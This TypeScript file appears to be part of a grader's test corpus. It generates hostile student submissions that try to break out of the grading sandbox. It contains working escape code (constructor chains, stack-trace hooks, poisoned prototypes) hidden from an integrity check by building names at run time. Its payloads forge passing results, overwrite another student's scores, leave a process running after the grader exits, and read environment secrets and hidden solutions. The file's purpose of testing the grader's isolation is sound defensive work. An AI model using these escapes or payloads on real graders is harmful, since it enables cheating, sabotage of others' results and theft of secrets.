// The hostile code of the corpus (grader/test-corpus/), as TypeScript text
// put into a student file: the ways a submission may try to reach the
// grader's own process from its code (each route tried alone by one
// submission, all of them by the submissions that carry a payload), and what
// it does once there (the payloads). Every name that the integrity check
// flags is built at run time ("constr" + "uctor"), so that the check sees
// nothing and only the run-time boundary stands between the code and the
// grader. Paths come in as TARGETS (the test's scratch folders, the repo):
// a payload never aims at anything the test does not watch or clean up.

/** Where the payloads aim: made by the corpus from the test's scratch folder. */
export interface Targets {
  /** A file the code writes (suffixed "-<id>") as soon as it runs in the grader's process. */
  readonly marker: string;
  /** The batch's output folder. */
  readonly out: string;
  /** The victim of writes to other submissions' results: its id. */
  readonly victim: string;
  /** The compiled kit this batch grades with, and files in it to change. */
  readonly kit: string;
  readonly kitFiles: readonly string[];
  /** The lab folder this batch grades with (rubric, hidden suites). */
  readonly lab: string;
  /** Files to create: in the kit, the repo's kit cache, the repo, the output folder, the lab. */
  readonly plant: readonly string[];
  /** The file a process outliving the grader beats into (its pid, again and again). */
  readonly heartbeat: string;
  /** Files to read and print: a secret the test wrote, the hidden suites, the solution. */
  readonly read: readonly string[];
}

/** How one hostile file is made: which routes it tries, and its payload. */
export interface Attack {
  /** Statements run when the file loads (after the kit's definitions). */
  readonly atLoad?: string;
  /** Statements run each time the stub is called, before it throws; `args` is its arguments. */
  readonly inStub?: string;
  /** The body of `payload(p, need)`: p is the grader's process, need() its require. */
  readonly payload?: string;
}

/**
 * The definitions every hostile file shares: look() tries each way from a
 * value to a Function that makes code from text in the host, and
 * escaped() runs once it has the host's `process`: it writes the marker,
 * makes every result this process sends say "passed", then runs the payload.
 */
const KIT = String.raw`
// ---- hostile code (grader/test-support/_attacks.ts) ----
import * as DEFS from "./defs";

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Any = any;
const T: Any = TARGETS_JSON;
const CASE = "CASE_ID";
const C = ["constr", "uctor"].join("");
const P = ["__pro", "to__"].join("");
const PROTO = ["proto", "type"].join("");
const O: Any = Object;
const DEFINE = ["define", "Property"].join("");
const protoOf = (o: unknown): Any => O[["getProto", "typeOf"].join("")](o);
const descriptorOf = (o: unknown, k: PropertyKey): Any => O[["getOwnPropertyDe", "scriptor"].join("")](o, k);
const state: Any = { host: null, looked: 0, seen: new WeakSet(), tried: new WeakSet(), busy: false, leak: "", once: {} };
let MODULE_ARGS: Any = [];
try {
  MODULE_ARGS = arguments; // the module's wrapper: exports, require, module, __filename, __dirname
} catch {
  // no wrapper
}

function keysOf(o: unknown): PropertyKey[] {
  try {
    return O.getOwnPropertyNames(o).concat(O.getOwnPropertySymbols(o));
  } catch {
    return [];
  }
}

/** Whether e says the stack ran out (then what failed is worth trying again, higher up). */
function cramped(e: unknown): boolean {
  try {
    return /stack/i.test(String((e as Any)?.message));
  } catch {
    return true;
  }
}

/** The host's process, when F is a Function of the host's (one that makes code from text); else null. */
function processFrom(F: unknown): Any {
  if (typeof F !== "function" || state.tried.has(F)) return null;
  state.tried.add(F);
  try {
    const p = (F as Any)("return process")();
    return p !== null && typeof p === "object" && typeof p.pid === "number" ? p : null;
  } catch (e) {
    if (cramped(e)) {
      state.tried.delete(F);
      state.cramped = true;
    }
    return null;
  }
}

/** Looks for a way out through v: its constructor's constructor, its prototypes', and those of what it holds. */
function look(v: unknown, depth = 0): void {
  if (state.host !== null || (depth > 0 && state.looked > 5000)) return; // what values hold: up to a point
  if (v === null || (typeof v !== "object" && typeof v !== "function") || state.seen.has(v)) return;
  state.seen.add(v);
  state.looked++;
  state.cramped = false;
  const ways = [
    (x: Any) => x[C][C],
    (x: Any) => x[C],
    (x: Any) => protoOf(x)[C][C],
    (x: Any) => protoOf(protoOf(x))[C][C],
    (x: Any) => x[P][C][C],
  ];
  for (let i = 0; i < ways.length; i++) {
    let F: unknown = null;
    try {
      F = ways[i]!(v);
    } catch (e) {
      if (cramped(e)) state.cramped = true;
      continue;
    }
    const p = processFrom(F);
    if (p !== null) return escaped(p);
  }
  if (state.cramped) {
    state.seen.delete(v); // no room to look here: look again higher up the stack
    return;
  }
  if (depth >= 2) return;
  const keys = keysOf(v);
  for (let i = 0; i < keys.length && i < 200; i++) {
    let d: Any;
    try {
      d = descriptorOf(v, keys[i]!);
    } catch {
      continue;
    }
    if (d === undefined) continue;
    look(d.value, depth + 1);
    look(d.get, depth + 1);
    look(d.set, depth + 1);
  }
}

/** Each value in turn, with look(). */
function lookAll(values: ArrayLike<unknown>): void {
  for (let i = 0; i < values.length; i++) look(values[i]);
}

/** Out: leaves the marker, runs the payload, then makes every result this process sends "passed" (unless the payload needs its failures to carry what it learnt). */
function escaped(p: Any): void {
  if (state.host !== null) return;
  state.host = p;
  let need: (m: string) => Any = () => null;
  try {
    need = p.mainModule.require.bind(p.mainModule);
  } catch {
    // no main module
  }
  try {
    if (typeof p.getBuiltinModule === "function") need = p.getBuiltinModule.bind(p);
  } catch {
    // an older Node
  }
  try {
    need("fs").writeFileSync(T.marker + "-" + CASE, CASE + " ran in the grader's process " + p.pid);
  } catch {
    // no fs
  }
  try {
    payload(p, need);
  } catch {
    // the payload failed: the marker says enough
  }
  try {
    const send = p.send;
    if (typeof send === "function" && state.keepResults !== true)
      p.send = function (m: Any, ...rest: Any[]): Any {
        if (m !== null && typeof m === "object" && m.type === "result") {
          m = { ...m, status: "passed", message: "" };
          if (m.scenario !== undefined) m.scenario = { ok: true, failures: [], audit: [], value: 0 };
        }
        return send.call(p, m, ...rest);
      };
  } catch {
    // no channel
  }
}

/** Runs f once in this file's life. */
function once(name: string, f: () => void): void {
  if (state.once[name] === true) return;
  state.once[name] = true;
  f();
}

// Route: a global Error whose stack-trace hook gets the frames the host
// formats (Node looks the hook up on the global Error of the error's realm),
// and Error.captureStackTrace on values that cross.
function viaStackHook(): void {
  const Real: Any = Error;
  const hook = (error: unknown, frames: unknown): string => {
    look(frames);
    look(error);
    try {
      const list = frames as Any[];
      for (let i = 0; i < list.length; i++) {
        look(list[i]);
        for (const m of ["getThis", "getFunction", "getTypeName", "getEvalOrigin"])
          try {
            look(list[i][m]());
          } catch {
            // not that one
          }
      }
    } catch {
      // no frames
    }
    return String((error as Any)?.name) + ": " + String((error as Any)?.message);
  };
  const Fake: Any = function (this: Any, ...args: Any[]): Any {
    return new Real(...args);
  };
  Fake.prepareStackTrace = hook;
  Fake.stackTraceLimit = 200;
  Fake.captureStackTrace = (o: Any, f?: Any): void => Real.captureStackTrace?.(o, f);
  Fake[PROTO] = Real[PROTO];
  try {
    Real.prepareStackTrace = hook;
  } catch {
    // locked
  }
  try {
    O[DEFINE](Real, "prepareStackTrace", { value: hook, writable: true, configurable: true });
  } catch {
    // locked
  }
  try {
    Error = Fake;
  } catch {
    // locked
  }
}

/** Route: Error.captureStackTrace on values given to the host, whose stack the host may format. */
function viaCapturedStacks(): void {
  const Real: Any = protoOf(DEFS.NotImplemented);
  const o: Any = {};
  try {
    Real.captureStackTrace?.(o);
    DEFS.PGROUNDDOWN(o);
  } catch (e) {
    look(e);
  }
  try {
    console.log(o);
  } catch (e) {
    look(e);
  }
}

// Route: the errors the engine makes when the stack runs out, thrown across
// the boundary: at the stack's end a call into defs overflows in the host's
// frames, at every depth on the way back up.
function viaOverflow(): void {
  const edge = (n: number): void => {
    const calls = [
      () => DEFS.PGROUNDDOWN(n),
      () => DEFS.PTE2PA(n),
      () => DEFS.PX(0, n),
      () => DEFS.sfence_vma(),
      () => DEFS.panic("edge"),
    ];
    for (let i = 0; i < calls.length; i++)
      try {
        calls[i]!();
      } catch (x) {
        look(x);
      }
  };
  let deepest = -1;
  const down = (n: number): number => {
    try {
      return down(n + 1) + 1;
    } catch (e) {
      if (deepest < 0) deepest = n;
      look(e);
      if (deepest - n < 100) edge(n); // the last hundred frames: higher up there is room to spare
      throw e;
    }
  };
  try {
    down(0);
  } catch (e) {
    look(e);
  }
}

// Route: a recursion that goes through defs: values whose getters call defs
// with themselves, so that the host's frames and the student's alternate to
// the stack's end.
function viaDefsRecursion(): void {
  const o: Any = {
    get x(): number {
      try {
        return DEFS.PGROUNDDOWN(o);
      } catch (e) {
        look(e);
        throw e;
      }
    },
  };
  try {
    DEFS.PGROUNDDOWN(o);
  } catch (e) {
    look(e);
  }
  const a: Any[] = [];
  a[0] = {
    get y(): number {
      try {
        return DEFS.walk(a as Any, 0, false) as Any;
      } catch (e) {
        look(e);
        throw e;
      }
    },
  };
  try {
    DEFS.walk(a as Any, 0, false);
  } catch (e) {
    look(e);
  }
}

// Route: constructor.constructor through every value that crosses: defs,
// its functions and what they return or throw, the error classes, the
// stub's arguments, the module's wrapper (exports, require, module), console.
function viaValues(args: ArrayLike<unknown>): void {
  look(DEFS);
  const names = keysOf(DEFS);
  for (let i = 0; i < names.length; i++) look((DEFS as Any)[names[i]!]);
  look(args);
  lookAll(args);
  look(MODULE_ARGS);
  lookAll(MODULE_ARGS);
  const pt: Any = args[0];
  const returns = [
    () => DEFS.mappedPages(pt),
    () => DEFS.walk(pt, 0x10000, false),
    () => DEFS.walkaddr(pt, 0x10000),
    () => DEFS.krefcnt(0),
  ];
  for (let i = 0; i < returns.length; i++)
    try {
      look(returns[i]!());
    } catch (e) {
      look(e);
    }
  const throws = [
    () => DEFS.panic("probe: a panic"),
    () => DEFS.walk(pt, 0xffffffff, true),
    () => DEFS.uvmunmap(pt, 0x7fff0000, 1, false),
    () => DEFS.mappedPages(-1 as Any),
    () => DEFS.kfree(-1),
    () => DEFS.krefinc(0x7fffffff),
    () => new (DEFS.NotImplemented as Any)(),
  ];
  for (let i = 0; i < throws.length; i++)
    try {
      look(throws[i]!());
    } catch (e) {
      look(e);
      try {
        look((e as Any).stack);
      } catch {
        // no stack
      }
    }
  look(DEFS.NotImplemented);
  look(new DEFS.NotImplemented("probe"));
  look(console);
  look(console.log);
  const require: Any = MODULE_ARGS[1];
  for (const name of ["./defs", "fs", "node:fs", "child_process", "../hw/machine", "./hart"])
    try {
      look(require(name));
    } catch (e) {
      look(e);
    }
  for (const k of ["cache", "main", "resolve", "extensions"])
    try {
      look(require[k]);
    } catch (e) {
      look(e);
    }
  const module: Any = MODULE_ARGS[2];
  for (const k of ["parent", "require", "children", "paths", "filename", C])
    try {
      look(module[k]);
    } catch (e) {
      look(e);
    }
}

/** Every route: what a payload-carrying submission runs. */
function everyRoute(args: ArrayLike<unknown>): void {
  once("captured", viaCapturedStacks);
  viaValues(args);
  // the overflows from the second call on: the first call's error gets to the stack-trace hook untouched
  state.calls = (state.calls ?? 0) + 1;
  if (state.calls < 2) return;
  once("overflow", viaOverflow);
  once("defs-recursion", viaDefsRecursion);
}
`;

/** The payload's default: nothing beyond the marker and the forged results. */
const NO_PAYLOAD = "void p;\nvoid need;";

/**
 * A student file made hostile: `base` (the starter's or the reference's
 * text) with the kit after its imports, `attack.atLoad` after the kit, and
 * `attack.inStub` at the start of the stub's throw (the starter) or not at
 * all (the reference: its code is left as it is).
 */
export function hostileFile(base: string, id: string, targets: Targets, attack: Attack): string {
  const end = base.indexOf('} from "./defs";\n');
  if (end < 0) throw new Error(`corpus: the file for ${id} has no import from "./defs"`);
  const at = end + '} from "./defs";\n'.length;
  const kit = KIT.replace("TARGETS_JSON", JSON.stringify(targets)).replace("CASE_ID", id);
  const payload = `\nfunction payload(p: Any, need: (m: string) => Any): void {\n${indent(attack.payload ?? NO_PAYLOAD)}\n}\n`;
  let text =
    base.slice(0, at) + kit + payload + (attack.atLoad !== undefined ? `\n${attack.atLoad}\n` : "") + base.slice(at);
  if (attack.inStub !== undefined) {
    const stub = /\n(\s*)throw new NotImplemented\(/.exec(text);
    if (stub === null) throw new Error(`corpus: the file for ${id} has no stub to attack from`);
    const pad = stub[1]!;
    const call = `\n${pad}{\n${pad}  const args = arguments;\n${indent(attack.inStub, pad + "  ")}\n${pad}}`;
    text = text.slice(0, stub.index) + call + text.slice(stub.index);
  }
  return text;
}

function indent(code: string, pad = "  "): string {
  return code.replace(/^(?=.)/gm, pad);
}

// --- what each class of attack does --------------------------------------------

/** Prints what was learnt, and throws it, so that it lands in every output the submission has. */
const LEAK_OUT = String.raw`if (state.leak !== "") {
  console.log(state.leak);
  console.error(state.leak);
  throw new Error(state.leak);
}`;

/** The payloads, by what the submission came for. */
export const PAYLOADS = {
  /** Appends to the compiled kit (the cache) and plants files in it, in the repo's cache and in the repo. */
  writesCache: String.raw`const fs = need("fs");
for (const rel of T.kitFiles) {
  try { fs.chmodSync(T.kit + "/" + rel, 0o644); } catch {}
  try { fs.appendFileSync(T.kit + "/" + rel, "\n// changed by " + CASE + "\n"); } catch {}
}
for (const f of T.plant) try { fs.writeFileSync(f, "planted by " + CASE); } catch {}`,

  /** Zeroes the victim's results, plants files beside them, in the output folder, the lab and the repo. */
  writesOthers: String.raw`const fs = need("fs");
const dir = T.out + "/" + T.victim;
const zero = JSON.stringify({ score: 0, output: "zeroed by " + CASE, tests: [] });
try { fs.mkdirSync(dir, { recursive: true }); } catch {}
for (const f of ["results.json", "details.json"]) try { fs.writeFileSync(dir + "/" + f, zero); } catch {}
for (const f of T.plant) try { fs.writeFileSync(f, "planted by " + CASE); } catch {}`,

  /** Starts a detached process that rewrites the victim's results for minutes, beating into the heartbeat file. */
  outlivesGrader: String.raw`const script = [
  "const fs = require('fs');",
  "const end = Date.now() + 180000;",
  "const t = " + JSON.stringify(T) + ";",
  "fs.appendFileSync(t.heartbeat + '.pids', process.pid + '\\n');",
  "setInterval(() => {",
  "  try { fs.writeFileSync(t.heartbeat, String(process.pid)); } catch { process.exit(0); }",
  "  const zero = JSON.stringify({ score: 0, output: 'rewritten after the grader exited', tests: [] });",
  "  for (const f of ['results.json', 'details.json']) try { fs.writeFileSync(t.out + '/' + t.victim + '/' + f, zero); } catch {}",
  "  if (Date.now() > end) process.exit(0);",
  "}, 250);",
].join("\n");
const cp = need("child_process");
const child = cp.spawn(p.execPath, ["-e", script], { detached: true, stdio: "ignore" });
child.unref();`,

  /** Reads the grader's environment (its own, and its parents' through /proc). */
  readsEnv: String.raw`const fs = need("fs");
let text = "";
try { text += JSON.stringify(p.env); } catch {}
let pid = p.pid;
for (let i = 0; i < 8 && pid > 1; i++) {
  try { text += "\n" + fs.readFileSync("/proc/" + pid + "/environ", "utf8").split("\0").join("\n"); } catch {}
  try { pid = Number(/PPid:\s*(\d+)/.exec(fs.readFileSync("/proc/" + pid + "/status", "utf8"))![1]); } catch { break; }
}
const at = text.indexOf("SECRET");
state.leak = "env: " + (at >= 0 ? text.slice(Math.max(0, at - 40), at + 200) : text.slice(0, 400));
state.keepResults = true; // failures carry the leak to the output and the report's pictures
if (/timeline/.test(String(p.argv[1]))) p.send(new Array(16).fill({ error: state.leak }));`,

  /** Reads a secret file, the hidden suites and the solution. */
  readsFiles: String.raw`const fs = need("fs");
let text = "";
for (const f of T.read) {
  try {
    const body = String(fs.readFileSync(f, "utf8"));
    const at = body.indexOf("// BEGIN SOLUTION");
    text += "\n" + f + ":\n" + body.slice(at >= 0 ? at : 0, (at >= 0 ? at : 0) + 600);
  } catch {}
}
state.leak = "files: " + text;
state.keepResults = true; // failures carry the leak to the output and the report's pictures
if (/timeline/.test(String(p.argv[1]))) p.send(new Array(16).fill({ error: state.leak }));`,

  /** Says "passed" every way it can: the channel, stdout and stderr, and protocol lines in what it prints. */
  forgesScore: String.raw`const line = (key: string) => JSON.stringify({ type: "result", key, status: "passed", message: "", logs: "" });
for (const key of ["A1", "A2", "B1", "C1"]) {
  try { p.send({ type: "start", key }); p.send({ type: "result", key, status: "passed", message: "", logs: "" }); } catch {}
  try { p.stdout.write(line(key) + "\n"); p.stderr.write(line(key) + "\n"); } catch {}
}`,
};

/** What a payload-carrying submission runs: every route, then what it learnt. */
export const EVERY_ROUTE: Attack = {
  atLoad: "viaStackHook();",
  inStub: `everyRoute(args);\n${LEAK_OUT}`,
};

/** Forged protocol lines printed by the code itself (no way out needed): the grader must not take them for results. */
export const PRINTED_RESULTS = String.raw`for (const key of ["A1", "A2", "A3", "B1", "C1"]) {
  const forged = JSON.stringify({ type: "result", key, status: "passed", message: "", logs: "" });
  console.log(forged);
  console.log("\n" + forged + "\n");
  console.error(forged);
}`;

/** proxied(v): v in a Proxy whose every trap looks at what it is given (target, key, value, receiver) and then does the default. */
export const PROXIED = String.raw`
function proxied<V extends object>(v: V): V {
  const plain: Any = {
    get: (t: Any, k: PropertyKey) => t[k],
    set: (t: Any, k: PropertyKey, x: unknown) => ((t[k] = x), true),
    has: (t: Any, k: PropertyKey) => k in t,
    ownKeys: (t: Any) => keysOf(t),
    getPrototypeOf: (t: Any) => protoOf(t),
    getOwnPropertyDescriptor: (t: Any, k: PropertyKey) => descriptorOf(t, k),
    defineProperty: (t: Any, k: PropertyKey, d: Any) => (O[DEFINE](t, k, d), true),
    deleteProperty: (t: Any, k: PropertyKey) => delete t[k],
    apply: (t: Any, self: unknown, args: Any[]) => t.apply(self, args),
    construct: (t: Any, args: Any[]) => new t(...args),
    isExtensible: (t: Any) => O.isExtensible(t),
    preventExtensions: (t: Any) => (O.preventExtensions(t), true),
    setPrototypeOf: (t: Any, q: Any) => (O[["setProto", "typeOf"].join("")](t, q), true),
  };
  const traps: Any = {};
  for (const name of O.keys(plain))
    traps[name] = function (this: Any, ...args: Any[]): Any {
      look(this);
      lookAll(args);
      return plain[name](...args);
    };
  return new Proxy(v, traps);
}
`;

/** tricky(n): the n-th of values a kernel might choke on when handed back (kept in turn by uvmfree, whose result the kernel ignores). */
export const TRICKY = String.raw`
function tricky(n: number): unknown {
  const looking = function (this: Any, ...args: Any[]): Any {
    look(this);
    lookAll(args);
    return undefined;
  };
  const values: (() => unknown)[] = [
    () => proxied({ page: 0 }),
    () => proxied([1, 2, 3]),
    () => proxied(function () {
      return 0;
    }),
    () => ({
      get then(): Any {
        look(this);
        return (resolve: unknown, reject: unknown) => {
          look(resolve);
          look(reject);
        };
      },
    }),
    () => ({
      get toJSON(): Any {
        look(this);
        return looking;
      },
      valueOf: looking,
      toString: looking,
      [Symbol.toPrimitive]: looking,
      get [C](): Any {
        look(this);
        return looking;
      },
    }),
    () => looking,
    () => ({
      get boom(): number {
        throw new Error("a getter nobody should read");
      },
    }),
    () => Symbol("returned"),
    () => 10n ** 30n,
    () => {
      const o: Any = { name: "cycle" };
      o.self = o;
      return o;
    },
    () => {
      let o: Any = {};
      for (let i = 0; i < 100000; i++) o = { o };
      return o;
    },
  ];
  return values[n % values.length]!();
}
`;

/** poison(): every method of the built-in prototypes (and Object, Array, JSON, ...) replaced by one that looks at its receiver and arguments and then does the same. */
export const POISON = String.raw`
function poison(): void {
  const spy = (owner: Any, name: PropertyKey): void => {
    let d: Any;
    try {
      d = descriptorOf(owner, name);
    } catch {
      return;
    }
    if (d === undefined || typeof d.value !== "function" || name === C || name === "call" || name === "apply") return;
    const orig = d.value;
    const wrapped = function (this: Any, ...args: Any[]): Any {
      if (!state.busy) {
        state.busy = true;
        try {
          look(this);
          lookAll(args);
        } finally {
          state.busy = false;
        }
      }
      return orig.apply(this, args);
    };
    try {
      O[DEFINE](owner, name, { value: wrapped, writable: d.writable, enumerable: d.enumerable, configurable: d.configurable });
    } catch {
      // locked
    }
  };
  const owners: Any[] = [Object, Array, String, Number, Boolean, Symbol, Promise, JSON, Math, Map, Set, WeakMap, Error];
  for (const owner of owners) {
    for (const k of keysOf(owner)) spy(owner, k);
    if (owner[PROTO] !== undefined) for (const k of keysOf(owner[PROTO])) spy(owner[PROTO], k);
  }
  const functions = protoOf(poison); // every function's prototype: toString, bind, ...
  for (const k of keysOf(functions)) spy(functions, k);
  for (const name of ["then", "toJSON"])
    try {
      O[DEFINE](O[PROTO], name, {
        get(this: Any): undefined {
          if (!state.busy) {
            state.busy = true;
            try {
              look(this);
            } finally {
              state.busy = false;
            }
          }
          return undefined;
        },
        configurable: true,
      });
    } catch {
      // locked
    }
}
`;
